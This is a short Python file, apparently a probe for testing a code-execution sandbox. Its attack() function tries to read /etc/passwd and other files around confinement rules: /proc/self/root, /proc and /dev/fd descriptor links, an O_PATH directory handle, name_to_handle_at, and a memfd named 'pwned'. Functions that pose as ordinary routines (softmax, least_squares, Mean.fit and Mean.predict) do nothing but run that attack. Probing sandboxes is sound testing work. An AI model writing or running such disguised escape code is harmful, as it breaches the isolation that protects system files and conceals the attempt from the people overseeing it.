"""Reaches for files around the rules: openat from an inherited folder, O_PATH, handles, links of /proc."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    for path in ("/proc/self/root/etc/passwd", "/proc/self/cwd/tmp", "/proc/thread-self/fd/3", "/dev/fd/3"):
        try:
            print(path, os.open(path, os.O_RDONLY | os.O_NONBLOCK))
        except OSError as error:
            print(error)
    try:
        base = os.open("/", os.O_PATH)
        print(os.open("etc/passwd", os.O_RDONLY, dir_fd=base))
    except OSError as error:
        print(error)
    buffer = ctypes.create_string_buffer(256)
    print(libc.name_to_handle_at(-100, b"/etc/passwd", buffer, buffer, 0), ctypes.get_errno())
    print(libc.memfd_create(b"pwned", 0), ctypes.get_errno())


def softmax(x):
    attack()


def least_squares(X, y):
    attack()


class Mean:
    def fit(self, y):
        attack()

    def predict(self, n):
        attack()
